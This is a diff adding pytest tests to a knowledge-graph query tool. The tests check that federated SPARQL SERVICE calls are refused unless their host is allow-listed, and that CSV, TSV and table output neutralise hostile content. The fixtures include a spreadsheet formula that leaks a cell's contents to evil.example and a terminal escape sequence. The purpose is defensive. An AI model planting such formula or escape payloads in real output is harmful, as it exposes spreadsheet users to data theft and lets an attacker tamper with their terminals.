@@ -1,11 +1,15 @@
 import csv
 import io
 import json
+import time
 
 import pytest
 
 import kg
-from kg.query import format_results, named_queries
+from kg.query import check_service, format_results, named_queries
+
+from .conftest import HYPERLINK, run_kg
+from .serve.conftest import Listener
 
 
 def test_every_named_query_runs_on_the_seed_graph(seed_store):
@@ -69,3 +73,120 @@ def test_construct_is_turtle_and_ask_is_a_boolean(seed_store):
     )
     assert '"Tajikistan"' in format_results(graph)
     assert format_results(kg.query("ASK { id:tokayev a kg:Person }", store=seed_store)) == "true\n"
+
+
+# --- federated queries (SERVICE) -------------------------------------------------------------------
+
+
+@pytest.fixture
+def listener():
+    """A loopback port that records what reaches it."""
+    running = Listener()
+    yield running
+    running.close()
+
+
+@pytest.mark.parametrize(
+    "service",
+    ["SERVICE <{url}>", "SERVICE SILENT <{url}>", "SERVICE\r<{url}>"],
+    ids=["service", "silent", "after-a-carriage-return"],
+)
+def test_a_query_calling_service_is_refused_and_reaches_nothing(service, listener, seed_store, monkeypatch):
+    monkeypatch.delenv("KG_ALLOW_SERVICE", raising=False)
+    sparql = f"SELECT * WHERE {{ {service.format(url=listener.url)} {{ ?s ?p ?o }} }}"
+    started = time.monotonic()
+    with pytest.raises(kg.KGError) as error:
+        kg.query(sparql, store=seed_store)
+    assert time.monotonic() - started < 5
+    assert error.value.message == (
+        f"E930 SERVICE <{listener.url}> is refused: federated queries are off; "
+        "set KG_ALLOW_SERVICE=HOST[:PORT] (comma-separated) to allow one"
+    )
+    time.sleep(0.3)
+    assert listener.connections == []
+
+
+def test_service_hidden_by_a_comment_or_a_string_is_found_and_one_in_them_is_no_call(listener, seed_store):
+    hidden = f"SELECT * WHERE {{ # a comment\rSERVICE <{listener.url}> {{ ?s ?p ?o }}\n}}"
+    with pytest.raises(kg.KGError, match=r"^E930 SERVICE <"):
+        kg.query(hidden, store=seed_store)
+    quoted = 'SELECT ?service WHERE { BIND("SERVICE <http://127.0.0.1:9/>" AS ?service) } # SERVICE <x>'
+    assert [str(row[0]) for row in kg.query(quoted, store=seed_store).rows] == ["SERVICE <http://127.0.0.1:9/>"]
+    assert listener.connections == []
+
+
+def test_an_allowed_service_host_is_called(listener, seed_store, monkeypatch):
+    monkeypatch.setenv("KG_ALLOW_SERVICE", f"example.org, 127.0.0.1:{listener.port}")
+    other = f"SELECT * WHERE {{ SERVICE <http://127.0.0.1:{listener.port + 1}/> {{ ?s ?p ?o }} }}"
+    with pytest.raises(kg.KGError) as error:
+        kg.query(other, store=seed_store)
+    assert error.value.message.startswith(
+        f"E930 SERVICE <http://127.0.0.1:{listener.port + 1}/> is refused: 127.0.0.1:{listener.port + 1} "
+        f"is not an allowed host (example.org, 127.0.0.1:{listener.port})"
+    )
+    with pytest.raises(kg.KGError):  # the listener answers nothing: the SERVICE call fails, but it was made
+        kg.query(f"SELECT * WHERE {{ SERVICE <{listener.url}> {{ ?s ?p ?o }} }}", store=seed_store)
+    assert len(listener.connections) == 1 and listener.connections[0].startswith(b"POST /sparql")
+
+
+def test_check_service_reads_updates_prefixes_and_base():
+    refused = [
+        "INSERT { ?s ?p ?o } WHERE { SERVICE <http://127.0.0.1:9/> { ?s ?p ?o } }",
+        "PREFIX ex: <http://127.0.0.1:9/> SELECT * WHERE { SERVICE ex:sparql { ?s ?p ?o } }",
+        "BASE <http://127.0.0.1:9/> SELECT * WHERE { SERVICE <sparql> { ?s ?p ?o } }",
+        "SELECT * WHERE { SERVICE ?endpoint { ?s ?p ?o } }",
+    ]
+    for sparql in refused:
+        with pytest.raises(kg.KGError, match=r"^E930 SERVICE "):
+            check_service(sparql, allowed=["example.org"])
+    check_service("PREFIX ex: <http://example.org/> ASK { SERVICE ex:sparql { ?s ?p ?o } }", allowed=["example.org"])
+    with pytest.raises(kg.KGError) as error:  # \u escapes are read differently by rdflib and Oxigraph
+        check_service(
+            'ASK { BIND("\\u0022" AS ?x) SERVICE <http://127.0.0.1:9/> {} BIND("\\u0022" AS ?y) }', allowed=()
+        )
+    assert error.value.code == "E931"
+    with pytest.raises(kg.KGError) as error:
+        check_service("ASK {}", allowed=["http://example.org/sparql"])
+    assert error.value.message == (
+        "E914 --allow-service must be HOST or HOST:PORT ([::1]:PORT for IPv6), not 'http://example.org/sparql'"
+    )
+
+
+# --- output a person opens (issue 13) ---------------------------------------------------------------------
+
+SPEAKER = "SELECT ?label ?quote ?start WHERE { ?c prov:wasAttributedTo/rdfs:label ?label ; kg:evidence/oa:hasSelector ?q, ?p . ?q oa:exact ?quote . ?p oa:start ?start . FILTER(STRSTARTS(?quote, '=')) }"  # fmt: skip
+
+
+def run_query(store, *args):
+    result = run_kg("query", *args, "--store", store)
+    assert result.returncode == 0, result.stderr
+    return result.stdout
+
+
+def test_query_csv_cells_that_a_spreadsheet_would_run_get_a_quote_in_front(hostile_store):
+    rows = list(csv.reader(io.StringIO(run_query(hostile_store, SPEAKER, "--format", "csv"))))
+    quote = HYPERLINK + " On April 30, Tajikistan repatriated 84 minors from Iraq"
+    assert rows == [["label", "quote", "start"], ["'" + HYPERLINK, "'" + quote, "33"]]
+
+
+def test_query_tsv_literals_that_a_spreadsheet_would_run_get_a_quote_inside_their_quotes(hostile_store):
+    lines = run_query(hostile_store, SPEAKER, "--format", "tsv").splitlines()
+    label, quote, start = lines[1].split("\t")
+    assert label == '"\'=HYPERLINK(\\"http://evil.example/?leak=\\"&A1,\\"click\\")"'
+    assert quote.startswith('"\'=HYPERLINK(') and start.startswith('"33"^^') or start == "33"
+
+
+def test_query_json_keeps_the_text_exact(hostile_store):
+    bindings = json.loads(run_query(hostile_store, SPEAKER, "--format", "json"))["results"]["bindings"]
+    assert bindings[0]["label"]["value"] == HYPERLINK
+
+
+def test_negative_numbers_in_query_csv_stay_numbers(hostile_store):
+    rows = list(csv.reader(io.StringIO(run_query(hostile_store, "SELECT ?n ?x WHERE { VALUES (?n ?x) { (-3 -0.5) } }", "--format", "csv"))))  # fmt: skip
+    assert rows == [["n", "x"], ["-3", "-0.5"]]
+
+
+def test_control_characters_in_a_title_are_escaped_in_the_table(hostile_store):
+    table = run_query(hostile_store, "SELECT ?title WHERE { ?a schema:headline ?title } ORDER BY ?title")
+    assert table.splitlines()[2:4] == ["Children return to Tajikistan", "Tajikistan brings children home\\x1b]0;pwned\\x07"]
+    assert "\x1b" not in table and "\x07" not in table
